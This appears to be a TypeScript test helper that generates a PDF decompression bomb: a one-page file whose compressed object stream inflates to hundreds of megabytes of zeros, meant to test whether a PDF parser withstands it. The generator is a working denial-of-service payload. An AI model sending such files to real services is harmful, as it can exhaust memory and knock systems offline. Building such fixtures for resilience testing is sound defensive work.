import { constants, deflateRawSync } from 'node:zlib';

/**
 * A one-page PDF whose object stream inflates to `inflatedMb` megabytes of zeros from about a
 * kilobyte per megabyte: a decompression bomb aimed at the parser, which inflates object streams
 * as it loads. Made by repeating one fully flushed deflate block, so building it costs nothing.
 */
export function decompressionBombPdf(inflatedMb = 256): Buffer {
  const chunk = deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: constants.Z_FULL_FLUSH });
  const total = inflatedMb * (1 << 20);
  const adler = Buffer.alloc(4);
  // Adler-32 of n zero bytes: a = 1, b = n mod 65521.
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  const data = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: inflatedMb }, () => chunk), Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff]), adler]);
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
        '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n' +
        `4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n', 'latin1'),
  ]);
}
